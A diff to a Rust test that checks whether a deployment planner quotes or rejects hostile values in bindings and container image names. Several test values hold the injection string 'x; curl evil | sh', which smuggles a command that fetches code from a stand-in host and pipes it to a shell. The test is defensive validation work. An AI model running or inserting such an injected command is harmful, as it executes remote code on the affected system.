@@ -269,9 +269,14 @@ fn values_are_checked_and_hostile_ones_never_pass() {
     );
 
     // Text for a person to paste is quoted, whatever the image is called.
+    let hostile = World::new("ingress-down", "shop", "web", 1, 1)
+        .binding("host", "shop.example")
+        .binding("balancer", "x; curl evil | sh");
+    let plan = hostile.plan();
+    let Some(Action::Elsewhere { operation, .. }) = &plan.step("point-dns").unwrap().action else { panic!() };
+    assert!(operation.ends_with("# shop.example to 'x; curl evil | sh'"), "{operation}");
+    // What is asked of a registry is an image, or nothing.
     let mut hostile = World::new("image-pull", "shop", "web", 1, 1);
     hostile.pods[0].containers[0].image = "x; curl evil | sh".into();
-    let plan = hostile.plan();
-    let Some(Action::Elsewhere { operation, .. }) = &plan.step("manifest").unwrap().action else { panic!() };
-    assert_eq!(operation, "docker manifest inspect 'x; curl evil | sh'");
+    assert_eq!(hostile.plan().step("manifest").unwrap().action, None);
 }
